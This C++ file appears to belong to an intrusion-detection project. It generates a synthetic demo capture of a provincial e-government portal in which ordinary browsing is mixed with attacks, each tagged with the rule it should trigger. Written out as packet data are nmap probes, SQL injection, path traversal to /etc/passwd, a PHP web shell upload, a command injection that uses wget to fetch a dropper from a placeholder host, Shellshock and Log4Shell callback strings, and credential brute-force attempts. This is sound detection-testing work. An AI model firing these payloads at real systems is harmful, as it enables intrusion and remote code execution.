// The demo capture: a few minutes of a provincial data centre's server link, compressed.
// Benign sessions are interleaved with attacks; each attack is commented with the bundled
// rules (rules/watchpost.rules) it is meant to trigger. bundled_rules_test holds the exact
// alert counts, so a change here that changes what fires must change that table too.
#include <string>

#include "hosts.h"
#include "messages.h"
#include "scenarios.h"

namespace wp::trafficgen {

namespace {

using testing::ip;

constexpr std::uint16_t kHttp = 80;

// A citizen opening the portal, and an office checking that it answers pings.
void benign_browsing(Generator& gen, const IpAddress& citizen, std::uint16_t first_ping_seq) {
  dns_lookup(gen, {citizen, gen.ephemeral_port()}, {hosts::dns(), 53}, "dichvucong.tinh.example",
             "10.20.1.10");
  {
    TcpSession s(gen, {citizen, gen.ephemeral_port()}, {hosts::portal(), kHttp});
    s.handshake();
    s.client_send(http_request("GET", "/", "dichvucong.tinh.example", kFirefoxAgent,
                               "Accept-Language: vi-VN,vi;q=0.9,en;q=0.5\r\n"));
    s.server_send(
        http_response(200, "OK", "text/html; charset=utf-8",
                      html_page("Cong dich vu cong truc tuyen",
                                "Tra cuu ho so, nop ho so truc tuyen va thanh toan phi, le phi.")));
    s.client_send(http_request("GET", "/static/css/site.css", "dichvucong.tinh.example",
                               kFirefoxAgent, "Referer: http://dichvucong.tinh.example/\r\n"));
    s.server_send(http_response(200, "OK", "text/css",
                                "body{font-family:sans-serif;margin:0}\nh1{color:#b71c1c}\n"));
    s.close();
  }
  ping(gen, hosts::office(), hosts::portal(), 0x1c2a, first_ping_seq, 56);
  ping(gen, hosts::office(), hosts::portal(), 0x1c2a, first_ping_seq + 1, 56);
  gen.gap();
}

// nmap -sS -O from one address: ICMP echo and timestamp discovery, a SYN scan of common
// ports, FIN/Xmas/NULL scans, then two OS detection probes.
void nmap_scan(Generator& gen) {
  const IpAddress scanner = ip("198.51.100.66");
  const IpAddress target = hosts::portal();
  const std::uint8_t ttl = 44;

  // Host discovery: echo without payload (9000011), timestamp request (9000012).
  ping(gen, scanner, target, 0x9d31, 0, 0, true, {{}, ttl, 64});
  {
    testing::L4Options opt;
    opt.ttl = ttl;
    opt.ip_id = gen.next_ip_id();
    const std::string stamps(12, '\0');
    gen.emit(testing::icmp_packet(scanner, target, 13, 0, 0x9d32, 0, stamps, opt));
    std::string reply = stamps;
    reply[7] = 0x2a;  // receive and transmit timestamps filled in by the target
    reply[11] = 0x2a;
    opt.ttl = 64;
    opt.ip_id = gen.next_ip_id();
    gen.emit(testing::icmp_packet(target, scanner, 14, 0, 0x9d32, 0, reply, opt));
  }
  gen.gap();

  // SYN scan (9000001 for each probe): window 1024 and a lone MSS option, as nmap sends.
  const std::uint16_t syn_port = 61204;
  const std::vector<std::uint8_t> nmap_mss = {0x02, 0x04, 0x05, 0xb4};
  const std::uint16_t ports[] = {21,  22,  23,  25,   53,   80,   110,
                                 143, 443, 445, 3306, 3389, 8080, 8443};
  for (std::uint16_t port : ports) {
    const bool open = port == 21 || port == 22 || port == 23 || port == 80;
    const auto seq = static_cast<std::uint32_t>(gen.rng().next());
    tcp_probe(gen, {scanner, syn_port}, {target, port}, kSyn, seq, 0, 1024, nmap_mss, ttl);
    if (open) {
      const auto server_seq = static_cast<std::uint32_t>(gen.rng().next());
      tcp_probe(gen, {target, port}, {scanner, syn_port}, kSyn | kAck, server_seq, seq + 1, 64240,
                nmap_mss);
      // The scanner's kernel knows no such connection and resets it.
      tcp_probe(gen, {scanner, syn_port}, {target, port}, kRst, seq + 1, 0, 0, {}, ttl);
    } else {
      tcp_probe(gen, {target, port}, {scanner, syn_port}, kRst | kAck, 0, seq + 1, 0);
    }
  }
  gen.gap();

  // FIN (9000002), Xmas (9000003) and NULL (9000004) scans of three ports each: closed
  // ports answer with RST (RFC 9293 3.10.7.1), open ones stay silent.
  struct Stealth {
    std::uint8_t flags;
    std::uint16_t sport;
  };
  for (const Stealth& scan :
       {Stealth{kFin, 61301}, Stealth{kFin | kPsh | kUrg, 61302}, Stealth{0, 61303}}) {
    for (std::uint16_t port : {std::uint16_t{22}, std::uint16_t{443}, std::uint16_t{3389}}) {
      const auto seq = static_cast<std::uint32_t>(gen.rng().next());
      tcp_probe(gen, {scanner, scan.sport}, {target, port}, scan.flags, seq, 0, 1024, {}, ttl);
      if (port != 22) {
        const std::uint32_t ack = seq + ((scan.flags & kFin) ? 1 : 0);
        tcp_probe(gen, {target, port}, {scanner, scan.sport}, kRst | kAck, 0, ack, 0);
      }
    }
  }
  gen.gap();

  // OS detection: the ECN probe (SYN+ECE+CWR, window 3; 9000005), answered by an open port,
  // and T3 (SYN+FIN+PSH+URG, window 256; 9000006), which Linux ignores.
  {
    const std::vector<std::uint8_t> ecn_options = {0x03, 0x03, 0x0a, 0x01, 0x02, 0x04,
                                                   0x05, 0xb4, 0x04, 0x02, 0x01, 0x01};
    const auto seq = static_cast<std::uint32_t>(gen.rng().next());
    tcp_probe(gen, {scanner, 61310}, {target, 22}, kSyn | kEce | kCwr, seq, 0, 3, ecn_options, ttl);
    tcp_probe(gen, {target, 22}, {scanner, 61310}, kSyn | kAck | kEce,
              static_cast<std::uint32_t>(gen.rng().next()), seq + 1, 64240, syn_options());
    tcp_probe(gen, {scanner, 61310}, {target, 22}, kRst, seq + 1, 0, 0, {}, ttl);
    tcp_probe(gen, {scanner, 61311}, {target, 22}, kSyn | kFin | kPsh | kUrg,
              static_cast<std::uint32_t>(gen.rng().next()), 0, 256, ecn_options, ttl);
  }
  gen.gap();

  // nmap -sC fetching robots.txt with its own User-Agent (9000035).
  http_exchange(gen, scanner, target,
                http_request("GET", "/robots.txt", "10.20.1.10",
                             "Mozilla/5.0 (compatible; Nmap Scripting Engine; "
                             "https://nmap.org/book/nse.html)",
                             "Connection: close\r\n"),
                http_response(200, "OK", "text/plain", "User-agent: *\nDisallow: /quantri/\n"));
}

void web_attacks(Generator& gen) {
  const std::string_view host = "dichvucong.tinh.example";
  const IpAddress sqli = ip("203.0.113.200");
  const std::string_view sqlmap_agent = "sqlmap/1.8.2#stable (https://sqlmap.org)";
  const std::string result_page =
      html_page("Ket qua tra cuu", "Khong tim thay ho so phu hop voi ma so da nhap.");

  // sqlmap: UNION query (9000020, 9000030) and boolean tautology (9000021, 9000030).
  http_exchange(gen, sqli, hosts::portal(),
                http_request("GET",
                             "/tracuu/hoso.php?id=1%20UNION%20ALL%20SELECT%20NULL%2CCONCAT%280x71"
                             "78766b71%2C0x4a6f%2C0x71706a7871%29%2CNULL--%20-",
                             host, sqlmap_agent, "Connection: close\r\n"),
                http_response(200, "OK", "text/html; charset=utf-8", result_page));
  http_exchange(gen, sqli, hosts::portal(),
                http_request("GET", "/tracuu/hoso.php?id=1%27%20OR%20%271%27%3D%271", host,
                             sqlmap_agent, "Connection: close\r\n"),
                http_response(200, "OK", "text/html; charset=utf-8", result_page));

  // Path traversal on the API server, on its VLAN, answered with the file (9000022, 9000029).
  const IpAddress webattacker = ip("203.0.113.150");
  http_exchange(gen, webattacker, hosts::api(),
                http_request("GET", "/api/v1/files/download?name=../../../../etc/passwd",
                             "api.tinh.example", "curl/8.5.0"),
                http_response(200, "OK", "application/octet-stream",
                              "root:x:0:0:root:/root:/bin/bash\n"
                              "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
                              "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n"),
                LinkOptions{{hosts::kPortalVlan}, 52, 64});

  // PHP web shell upload, headers and file in two segments (9000026).
  {
    const std::string body =
        "------WebKitFormBoundary7MA4YWxkTrZu0gW\r\n"
        "Content-Disposition: form-data; name=\"avatar\"; filename=\"avatar.php\"\r\n"
        "Content-Type: image/jpeg\r\n\r\n"
        "<?php if(isset($_REQUEST['c'])){ echo shell_exec($_REQUEST['c']); } ?>\r\n"
        "------WebKitFormBoundary7MA4YWxkTrZu0gW--\r\n";
    const std::string request = http_request(
        "POST", "/taikhoan/upload.php", host, kFirefoxAgent,
        "Content-Type: multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW\r\n",
        body);
    const std::size_t split = request.find("<?php");
    TcpSession s(gen, {webattacker, gen.ephemeral_port()}, {hosts::portal(), kHttp});
    s.handshake();
    s.client_send_pieces(
        {std::string_view(request).substr(0, split), std::string_view(request).substr(split)});
    s.server_send(http_response(200, "OK", "application/json",
                                "{\"status\":\"ok\",\"file\":\"/uploads/avatar.php\"}"));
    s.close();
  }

  // Command injection into a ping form, fetching a dropper (9000027).
  http_exchange(
      gen, webattacker, hosts::portal(),
      http_request("GET",
                   "/cgi-bin/ping.cgi?host=8.8.8.8%3Bwget%20http%3A%2F%2F198.51.100.200"
                   "%2Fm.sh%20-O%20%2Ftmp%2Fm.sh",
                   host, "python-requests/2.31.0"),
      http_response(200, "OK", "text/plain", "PING 8.8.8.8 (8.8.8.8) 56(84) bytes of data.\n"));

  // Nikto (9000031).
  http_exchange(gen, webattacker, hosts::portal(),
                http_request("GET", "/admin/config.php.bak", host,
                             "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000712)"),
                http_response(404, "Not Found", "text/html",
                              html_page("404 Not Found", "Khong tim thay trang.")));

  // Shellshock in a CGI request, and the server running `id` (9000023, 9000028).
  http_exchange(gen, ip("198.51.100.77"), hosts::portal(),
                http_request("GET", "/cgi-bin/status.cgi", "10.20.1.10",
                             "() { :; }; echo; echo; /bin/bash -c 'id'"),
                http_response(200, "OK", "text/plain",
                              "\nuid=33(www-data) gid=33(www-data) groups=33(www-data)\n"));

  // Log4Shell over IPv6 (9000024) and an obfuscated variant over IPv4 (9000025).
  http_exchange(gen, ip("2001:db8:100::77"), hosts::portal_v6(),
                http_request("GET", "/", "[2001:db8:20::10]", kChromeAndroidAgent,
                             "X-Api-Version: ${jndi:ldap://198.51.100.200:1389/Basic/Command/"
                             "Base64/aWQ=}\r\n"),
                http_response(200, "OK", "text/html; charset=utf-8",
                              html_page("Cong dich vu cong truc tuyen", "Xin chao.")));
  http_exchange(gen, ip("203.0.113.177"), hosts::portal(),
                http_request("GET", "/", host,
                             "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://"
                             "198.51.100.200:1389/o}"),
                http_response(200, "OK", "text/html; charset=utf-8",
                              html_page("Cong dich vu cong truc tuyen", "Xin chao.")));
}

void scanners(Generator& gen) {
  // Masscan's banner check (9000032), raw HTTP/1.0 as it sends it.
  http_exchange(gen, ip("198.51.100.123"), hosts::portal(),
                "GET / HTTP/1.0\r\nUser-Agent: masscan/1.3 "
                "(https://github.com/robertdavidgraham/masscan)\r\nAccept: */*\r\n\r\n",
                http_response(200, "OK", "text/html; charset=utf-8",
                              html_page("Cong dich vu cong truc tuyen", "Xin chao.")));
  // zgrab (9000033).
  http_exchange(gen, ip("203.0.113.45"), hosts::portal(),
                http_request("GET", "/", "10.20.1.10", "Mozilla/5.0 zgrab/0.x"),
                http_response(200, "OK", "text/html; charset=utf-8",
                              html_page("Cong dich vu cong truc tuyen", "Xin chao.")));
  // The data centre's own scanner runs Nikto: exempted by the pass rule 9000090, so the
  // Nikto rule stays silent here.
  http_exchange(gen, hosts::internal_scanner(), hosts::portal(),
                http_request("GET", "/phpmyadmin/", "10.20.1.10",
                             "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000401)"),
                http_response(404, "Not Found", "text/html",
                              html_page("404 Not Found", "Khong tim thay trang.")));
}

void brute_force(Generator& gen) {
  const IpAddress attacker = ip("198.51.100.99");

  // Hydra against the admin area with HTTP basic auth (9000034).
  http_exchange(gen, attacker, hosts::portal(),
                http_request("GET", "/quantri/", "10.20.1.10", "Mozilla/4.0 (Hydra)",
                             "Authorization: Basic YWRtaW46YWRtaW4=\r\n"),
                http_response(401, "Unauthorized", "text/html",
                              html_page("401 Authorization Required", "Dang nhap that bai.")));

  // FTP: three connections with two failed logins each (9000040 x6); one tries root (9000041).
  const char* users[3][2] = {{"admin", "admin"}, {"root", "ftpuser"}, {"backup", "www"}};
  const char* passwords[3][2] = {{"admin", "123456"}, {"root", "ftpuser"}, {"backup", "www"}};
  for (int c = 0; c < 3; ++c) {
    TcpSession s(gen, {attacker, gen.ephemeral_port()}, {hosts::ftp(), 21});
    s.handshake();
    s.server_send("220 (vsFTPd 3.0.5)\r\n");
    for (int i = 0; i < 2; ++i) {
      s.client_send(std::string("USER ") + users[c][i] + "\r\n");
      s.server_send("331 Please specify the password.\r\n");
      s.client_send(std::string("PASS ") + passwords[c][i] + "\r\n");
      s.server_send("530 Login incorrect.\r\n");
    }
    s.client_send("QUIT\r\n");
    s.server_send("221 Goodbye.\r\n");
    s.close_by_server();
  }

  // SSH: two Hydra (libssh) connections and one Go bot (9000042 x3). Banners and key
  // exchange offers are in clear text; the scanners give up before authenticating.
  for (std::string_view banner :
       {std::string_view("SSH-2.0-libssh_0.10.6\r\n"),
        std::string_view("SSH-2.0-libssh_0.10.6\r\n"), std::string_view("SSH-2.0-Go\r\n")}) {
    ssh_exchange(gen, attacker, hosts::ssh(), banner);
  }

  // Telnet to the switch's management address: two failed logins (9000043 x2).
  {
    TcpSession s(gen, {attacker, gen.ephemeral_port()}, {hosts::telnet(), 23});
    s.handshake();
    // DO TERMINAL-TYPE, DO TERMINAL-SPEED, DO X-DISPLAY-LOCATION, DO NEW-ENVIRON.
    s.server_send("\xff\xfd\x18\xff\xfd\x20\xff\xfd\x23\xff\xfd\x27");
    s.client_send("\xff\xfc\x18\xff\xfc\x20\xff\xfc\x23\xff\xfc\x27");
    // WILL SUPPRESS-GO-AHEAD, WILL ECHO, then the login prompt.
    s.server_send("\xff\xfb\x03\xff\xfb\x01\r\nDebian GNU/Linux 12\r\nsw-core-01 login: ");
    s.client_send("\xff\xfd\x03\xff\xfd\x01");
    for (std::string_view user : {std::string_view("admin"), std::string_view("root")}) {
      s.client_send(std::string(user) + "\r\n");
      s.server_send(std::string(user) + "\r\nPassword: ");
      s.client_send("123456\r\n");
      s.server_send("\r\nLogin incorrect\r\nsw-core-01 login: ");
    }
    s.close();
  }
}

void icmp_and_ipv6(Generator& gen) {
  // Oversized echo requests, 1400 bytes of data each (9000010 x2; replies are type 0).
  const IpAddress pinger = ip("203.0.113.99");
  ping(gen, pinger, hosts::portal(), 0x4f10, 1, 1400);
  ping(gen, pinger, hosts::portal(), 0x4f10, 2, 1400);
  gen.gap();

  // A citizen over IPv6: the portal page and two ICMPv6 echoes.
  http_exchange(gen, hosts::citizen_v6(), hosts::portal_v6(),
                http_request("GET", "/tin-tuc/", "dichvucong.tinh.example", kChromeAndroidAgent),
                http_response(200, "OK", "text/html; charset=utf-8",
                              html_page("Tin tuc", "Thong bao lich tiep cong dan thang 7.")));
  ping(gen, hosts::citizen_v6(), hosts::portal_v6(), 0x0b0e, 1, 56);
  ping(gen, hosts::citizen_v6(), hosts::portal_v6(), 0x0b0e, 2, 56);
  gen.gap();
}

void more_benign(Generator& gen) {
  dns_lookup(gen, {hosts::partner(), gen.ephemeral_port()}, {hosts::dns(), 53}, "api.tinh.example",
             "10.20.1.11");
  dns_lookup(gen, {hosts::citizen2(), gen.ephemeral_port()}, {hosts::dns(), 53},
             "mail.tinh.example", "");
  http_exchange(gen, hosts::citizen2(), hosts::portal(),
                http_request("GET", "/thutuc/danh-sach?linhvuc=dat-dai&trang=2",
                             "dichvucong.tinh.example", kChromeAndroidAgent),
                http_response(200, "OK", "text/html; charset=utf-8",
                              html_page("Thu tuc hanh chinh", "Linh vuc dat dai: 42 thu tuc.")));
  // A partner system posting a form over the API.
  http_exchange(
      gen, hosts::partner(), hosts::portal(),
      http_request("POST", "/api/v1/hoso", "dichvucong.tinh.example", "okhttp/4.12.0",
                   "Content-Type: application/json\r\n",
                   "{\"maHoSo\":\"000.00.12.H40-250701-0007\",\"trangThai\":\"DA_TIEP_NHAN\"}"),
      http_response(201, "Created", "application/json", "{\"ok\":true}"));
}

}  // namespace

void demo(Generator& gen) {
  benign_browsing(gen, hosts::citizen1(), 1);
  nmap_scan(gen);
  more_benign(gen);
  web_attacks(gen);
  scanners(gen);
  icmp_and_ipv6(gen);
  brute_force(gen);
  benign_browsing(gen, hosts::citizen2(), 3);
}

}  // namespace wp::trafficgen
